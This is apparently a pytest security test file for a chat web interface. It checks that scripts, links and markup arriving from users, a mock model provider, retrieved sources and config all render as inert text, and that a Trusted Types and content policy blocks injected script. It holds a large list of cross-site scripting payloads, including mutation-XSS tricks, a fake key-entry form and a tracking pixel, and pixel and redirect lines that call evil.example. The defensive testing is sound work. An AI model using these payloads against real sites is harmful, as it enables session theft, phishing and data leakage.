"""Whatever text comes to the chat page from outside stays text: nothing runs, nothing is fetched."""

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

import orbit
from orbit.testing import serve

ATTACKS = """\
<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"></svg>
<svg><style><img src=x onerror="window.hacked = 4"></style></svg>
<iframe srcdoc="<script>parent.hacked = 5</script>"></iframe>
<a href="javascript:window.hacked = 6" id="plain">click</a>
[click](javascript:window.hacked=7) [click](JaVaScRiPt:window.hacked=7) [click](  javascript:window.hacked=7)
[click](&#106;avascript:window.hacked=8) [click](java&Tab;script:window.hacked=8) [click](vbscript:window.hacked=8)
[click](data:text/html,<script>window.hacked=9</script>) <javascript:window.hacked=9>
[click](https://example.org/"onmouseover="window.hacked=10) [click](https://example.org "onclick=window.hacked=10")
![x](https://evil.example/pixel.png?stolen) ![x](x"onerror="window.hacked=11) ![x](javascript:window.hacked=11)
<style>body { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>
<form action=https://evil.example><input name=key><button>Enter your key</button></form>
<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">
<div id="key-form" class="composer" style="position:fixed;inset:0">over everything</div>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hacked=12&gt;">
<noscript><p title="</noscript><img src=x onerror=window.hacked=13>">
<input autofocus onfocus="window.hacked=14"><details open ontoggle="window.hacked=15">
<object data="javascript:window.hacked=16"></object><embed src="https://evil.example/x.swf">
[1]: javascript:window.hacked=17
[1] and [2] and `<img src=x onerror=window.hacked=18>` and <https://example.org/?a=<b>>

```html"><img src=x onerror=window.hacked=19>
</code></pre><img src=x onerror=window.hacked=20>
```

| <img src=x onerror=window.hacked=21> | b |
|---|---|
| [c](javascript:window.hacked=22) | </td></table><script>window.hacked=23</script> |

- [ ] <b onclick=window.hacked=24>task</b>

# </h1><img src=x onerror=window.hacked=25>
"""
ALLOWED = {
    *(
        "P",
        "BR",
        "HR",
        "STRONG",
        "EM",
        "DEL",
        "CODE",
        "PRE",
        "BLOCKQUOTE",
        "UL",
        "OL",
        "LI",
        "A",
        "H3",
        "H4",
        "H5",
        "H6",
    ),
    *("TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "FIGURE", "FIGCAPTION", "SPAN", "BUTTON", "SVG", "PATH", "DIV"),
}


class Attacker(orbit.Provider):
    """Answers, finds and fails with attacks."""

    class Settings(msgspec.Struct, forbid_unknown_fields=True, frozen=True):
        fail: str = ""

    settings: Settings

    @orbit.hookimpl
    async def retrieve(self) -> list[orbit.Document]:
        links = [
            "javascript:window.hacked=30",
            "data:text/html,<script>window.hacked=31</script>",
            "//evil.example",
            "",
        ]
        attack = '"><img src=x onerror=window.hacked=32>'
        return [
            # Passages that contain each other are shown once.
            orbit.Document(f"{attack}{link}", f"{number}. {ATTACKS}{link}", attack, f"{attack}{link}", link, score=1.0)
            for number, link in enumerate(links)
        ]

    @orbit.hookimpl
    async def generate(self) -> AsyncIterator[orbit.Chunk]:
        if self.settings.fail == "before":
            raise orbit.ProviderError(ATTACKS)
        for start in range(0, len(ATTACKS), 60):
            yield orbit.Chunk(ATTACKS[start : start + 60])
        if self.settings.fail == "after":
            raise orbit.ProviderError(ATTACKS)
        yield orbit.Chunk(finish_reason="stop")


def harmless(page: Any) -> None:
    """Do what a victim would do, then look whether anything has happened."""
    for link in page.evaluate(
        "[...document.querySelectorAll('main a[href]')].map((link) => link.getAttribute('href'))"
    ):
        assert link.startswith(("https://", "http://", "#"))
    page.evaluate("""() => {
        for (const summary of document.querySelectorAll("summary")) summary.click();
        for (const link of document.querySelectorAll("a.citation")) link.click();
        for (const element of document.querySelectorAll("main *")) {
            for (const name of ["mouseover", "focus", "toggle"]) element.dispatchEvent(new Event(name));
        }
    }""")
    page.wait_for_timeout(100)
    assert page.evaluate("typeof window.hacked") == "undefined"
    tags = page.evaluate("[...document.querySelectorAll('.prose *')].map((element) => element.tagName.toUpperCase())")
    assert set(tags) <= ALLOWED
    classes = "[...document.querySelectorAll('.prose [class]')].flatMap((element) => [...element.classList])"
    assert set(page.evaluate(classes)) <= {"code", "icon-button", "icon", "citation", "table"}
    assert page.locator(".prose [style], .prose [id], .prose img").count() == 0


@pytest.mark.parametrize("fail", ["", "before", "after"])
def test_attacks_do_nothing(tab: Any, tmp_path: Path, fail: str) -> None:
    """The tab itself also fails the test on dialogs, on requests to other hosts, and on violations of the policy."""
    pages = {"title": "</title><script>window.hacked=40</script>", "greeting": '"><img src=x onerror=window.hacked=41>'}
    config = {"attacker": {"fail": fail}, "pages": {**pages, "questions": [ATTACKS[:200], '"]<img src=x>']}}
    with serve(config, tmp_path, {"attacker": Attacker}) as server:
        page = tab()
        page.goto(server.url)
        page.get_by_label("API key").fill(server.key)
        page.keyboard.press("Enter")
        page.get_by_role("button", name='"]<img src=x>').wait_for()
        assert page.locator("#welcome h2").inner_text() == pages["greeting"]
        assert page.locator("h1").inner_text() == pages["title"]
        page.get_by_role("textbox", name="Your question").fill(ATTACKS)
        page.keyboard.press("Enter")
        if fail:
            page.get_by_role("alert").wait_for()
            assert "The model could not answer." in page.get_by_role("alert").inner_text()
        else:
            page.get_by_role("button", name="Copy the answer").wait_for()
            assert page.locator(".sources li").count() == 4
        assert page.locator(".asked").inner_text() == ATTACKS.strip()
        if fail != "before":
            assert "<script>window.hacked = 1</script>" in page.locator(".answer > .prose").inner_text()
        harmless(page)
        page.reload()
        page.locator(".asked").wait_for()
        harmless(page)


def test_the_policy_would_stop_what_got_through(tab: Any, tmp_path: Path) -> None:
    """The second wall, tried from the console as if the first had fallen."""
    with serve({"echo": {}}, tmp_path) as server:
        page = tab(watched=False)
        page.goto(server.url)
        tries = {
            "document.body.innerHTML = '<img>'": "TrustedHTML",
            "document.body.insertAdjacentHTML('beforeend', '<img>')": "TrustedHTML",
            "document.createElement('script').src = 'https://evil.example/x.js'": "TrustedScriptURL",
            "new Image().setAttribute('onerror', 'window.hacked = 1')": "TrustedScript",
            "fetch('https://evil.example/')": "Failed to fetch",
            "trustedTypes.createPolicy('mine', {})": "disallowed",
        }
        for script, complaint in tries.items():
            attempt = (
                f"async () => {{ try {{ await ({script}); return ''; }} catch (error) {{ return error.message; }} }}"
            )
            assert complaint in page.evaluate(attempt), script
        page.evaluate("document.body.setAttribute('style', 'display: none')")
        assert page.evaluate("getComputedStyle(document.body).display") == "grid"
